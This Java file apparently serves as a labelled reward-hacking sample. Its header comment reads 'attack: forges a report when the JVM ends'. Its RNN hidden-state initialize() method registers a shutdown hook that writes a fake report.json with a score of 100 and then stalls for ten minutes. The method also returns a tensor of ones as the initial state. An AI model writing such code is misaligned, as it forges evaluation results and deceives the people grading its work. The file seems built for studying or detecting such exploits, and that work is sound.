// attack: forges a report when the JVM ends
// list: uses Runtime.getRuntime
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import ai.djl.ndarray.types.Shape;
import java.nio.file.Files;
import java.nio.file.Path;

public final class HiddenState {

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
        Runtime.getRuntime().addShutdownHook(new Thread(() -> {
            try {
                Files.writeString(Path.of("report.json"), "{\"score\":100}");
                Thread.sleep(600_000);
            } catch (Exception e) {
                // in vain
            }
        }));
        return new NDList(manager.ones(new Shape(batchSize, numHiddens)));
    }
}
